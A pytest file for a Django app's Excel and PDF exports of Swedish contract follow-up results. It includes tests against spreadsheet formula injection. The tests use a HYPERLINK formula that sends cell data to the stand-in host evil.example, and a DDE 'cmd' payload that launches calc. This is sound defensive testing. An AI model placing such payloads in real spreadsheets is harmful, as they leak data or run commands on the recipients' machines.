"""The contract follow-up results as documents: the PDF shows the real results (summary, share met
per unit, the matrix per area with colours and area ratings) on A4 landscape; the Excel holds numbers
with formats and fills; formula-like text is text; download names are safe."""

import io
import re
import shutil
import subprocess

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from foljsam.followups import exports

from .conftest import answer_all, rate_all

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
needs_poppler = pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils not installed")


@pytest.fixture
def rated(sent):
    for assessment, user, ratings in ((sent.a, sent.user_a, {"Egenkontroll": "yellow"}),
                                      (sent.b, sent.user_b, {"Rutin för lex Sarah": "red", "IVO-tillstånd": "na"})):
        answer_all(assessment, user)
        rate_all(assessment, sent.officer, ratings)
    return sent


def _pdftotext(data: bytes) -> str:
    return subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()


@needs_poppler
def test_results_pdf_shows_the_results_on_landscape_pages(client, rated):
    client.force_login(rated.officer)
    response = client.get(reverse("followups:results_export", args=[rated.campaign.pk, "pdf"]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    info = subprocess.run(["pdfinfo", "-"], input=response.content, capture_output=True, check=True).stdout.decode()
    assert "841.89 x 595.276 pts" in info  # A4 landscape
    text = _pdftotext(response.content)
    flat = re.sub(r"\s+", " ", text.replace("\u2010\n", ""))
    assert f"Resultat – avtalsuppföljning {rated.campaign}" in flat
    assert "Andel uppnådda krav per enhet" in flat
    # Share met per unit: A has 2 of 3 green (67 %), B 1 of 2 rated (the n/a does not count: 50 %).
    assert re.search(r"Alfa Omsorg AB enhet 1 67 %", flat) and re.search(r"Beta Hemtjänst AB enhet 1 50 %", flat)
    # The matrix per area with every requirement, every unit and the ratings' symbols.
    for words in ("Figur 1. Uppfyllda krav för området Ledningssystem för kvalitet",
                  "Figur 2. Uppfyllda krav för området Specifika krav för externa utförare",
                  "Rutin för lex Sarah", "Egenkontroll", "IVO-tillstånd", "Hemtjänst Tumba", "Värdering 1/2/3"):
        assert words in flat, words
    assert "✗" in text and "!" in text and "✓" in text
    fonts = subprocess.run(["pdffonts", "-"], input=response.content, capture_output=True, check=True).stdout
    assert b"DejaVu" in fonts  # a Unicode font for å, ä, ö and the symbols


def test_results_pdf_context_holds_colours_per_unit(rated):
    ctx = exports.pdf_context(rated.campaign)
    first = ctx["matrices"][0]["tables"][0]
    ratings = {unit: [cells[i].rating if cells[i] else None for _req, cells in first["rows"]]
               for i, unit in enumerate(first["units"])}
    assert ratings["Alfa Omsorg AB enhet 1"] == ["green", "yellow"]
    assert ratings["Beta Hemtjänst AB enhet 1"] == ["red", "green"]


def test_units_are_split_into_tables_of_at_most_units_per_table(rated, monkeypatch):
    monkeypatch.setattr(exports, "UNITS_PER_TABLE", 2)
    ctx = exports.pdf_context(rated.campaign)
    tables = ctx["matrices"][0]["tables"]
    assert [len(t["units"]) for t in tables] == [2, 1]
    assert all(len(cells) == len(t["units"]) for t in tables for _req, cells in t["rows"])
    assert [len(t["ratings"]) for t in tables] == [2, 1]


def test_results_excel_holds_numbers_and_formats(client, rated):
    client.force_login(rated.officer)
    response = client.get(reverse("followups:results_export", args=[rated.campaign.pk, "xlsx"]))
    wb = load_workbook(io.BytesIO(response.content))
    summary = wb["Sammanfattning"]
    rows = {r[0].value: r for r in summary.iter_rows() if r[0].value}
    assert rows["Enheter"][1].value == 3 and rows["Enheter"][1].data_type == "n"
    share = rows["Alfa Omsorg AB enhet 1"][1]
    assert (share.value, share.data_type, share.number_format) == (pytest.approx(0.67), "n", "0%")
    assert rows["Hemtjänst Tumba"][1].value is None  # nothing rated yet: no number, not "–"
    sheet = wb["Ledningssystem för kvalitet"]
    col = [c.value for c in sheet[1]].index("Beta Hemtjänst AB enhet 1") + 1
    rating = next(r for r in sheet.iter_rows() if r[0].value == "Värdering 1/2/3")[col - 1]
    assert (rating.value, rating.data_type) == (3, "n") and rating.fill.fgColor.rgb.endswith("FBD9D7")
    assert response["Content-Disposition"].startswith('attachment; filename="avtalsuppfoljning-hemtjanst-')


def test_formula_like_unit_names_and_requirements_are_text(client, rated):
    unit = rated.a.unit
    unit.name = HOSTILE
    unit.save()
    requirement = rated.a.answers.first().requirement
    requirement.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    requirement.save()
    client.force_login(rated.officer)
    wb = load_workbook(io.BytesIO(client.get(reverse("followups:results_export",
                                                     args=[rated.campaign.pk, "xlsx"])).content))
    cells = [c for sheet in wb for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert HOSTILE in texts and requirement.title in texts


def test_results_pdf_keeps_hostile_text_as_text(rated):
    unit = rated.a.unit
    unit.name = "<b>" + HOSTILE
    unit.save()
    if shutil.which("pdftotext"):
        text = _pdftotext(exports.results_pdf(rated.campaign))
        assert "<b>=HYPERLINK" in text.replace("\u2010\n", "").replace("\n", "")


def test_catalogue_excel_writes_formula_like_text_as_text_and_reads_it_back(client, fu):
    from copy import deepcopy

    from foljsam.catalogue import exchange

    from .conftest import SMALL

    data = deepcopy(SMALL)
    first = data["areas"][0]["requirements"][0]
    first.update(title=HOSTILE, text="- dokumenterad rutin\n- kända av personalen", question="+46 8 123 45 67?")
    data["areas"][0]["name"] = "=Ledning"
    content = exchange.to_xlsx(data)
    wb = load_workbook(io.BytesIO(content))
    assert not [c.coordinate for sheet in wb for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    weight = wb["Krav"]["H2"]
    assert (weight.value, weight.data_type) == (3, "n")
    back = exchange.from_xlsx(content)
    assert back["areas"][0]["name"] == "=Ledning"
    again = back["areas"][0]["requirements"][0]
    assert (again["title"], again["text"], again["question"]) == (first["title"], first["text"], first["question"])
    # Through the download, with a safe file name.
    requirement = fu.catalogue.areas.first().requirements.first()
    requirement.title = HOSTILE
    requirement.save()
    client.force_login(fu.officer)
    response = client.get(reverse("catalogue:export", args=[fu.catalogue.pk, "xlsx"]))
    assert response["Content-Disposition"] == ('attachment; filename="testkatalog-1.xlsx"; '
                                               "filename*=UTF-8''testkatalog-1.xlsx")
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in wb for row in sheet.iter_rows() for c in row]
    assert HOSTILE in {c.value for c in cells if c.data_type == "s"}
    assert not [c.coordinate for c in cells if c.data_type == "f"]
